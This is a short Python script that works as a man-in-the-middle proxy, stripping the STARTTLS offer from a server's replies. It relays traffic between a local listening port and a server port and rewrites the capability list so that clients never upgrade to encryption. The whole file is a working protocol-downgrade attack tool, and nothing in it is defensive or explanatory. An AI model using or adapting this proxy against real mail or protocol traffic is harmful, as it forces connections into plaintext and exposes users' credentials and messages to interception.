"""strip.py PORT SERVERPORT: a man in the middle who takes STARTTLS out of what a server offers."""
import socket
import sys
import threading


def strip(data):
    lines = data.split(b"\r\n")
    kept = [line for line in lines if line[4:].upper() != b"STARTTLS"]
    if len(kept) < len(lines):  # the last line of a reply has a space behind its code
        replies = [i for i, line in enumerate(kept) if line]
        if replies:
            last = replies[-1]
            kept[last] = kept[last][:3] + b" " + kept[last][4:]
    return b"\r\n".join(kept)


def pump(source, sink, change):
    while data := source.recv(65536):
        sink.sendall(change(data))
    sink.shutdown(socket.SHUT_WR)


listener = socket.create_server(("127.0.0.1", int(sys.argv[1])))
while True:
    client, _ = listener.accept()
    server = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
    for args in ((client, server, bytes), (server, client, strip)):
        threading.Thread(target=pump, args=args, daemon=True).start()
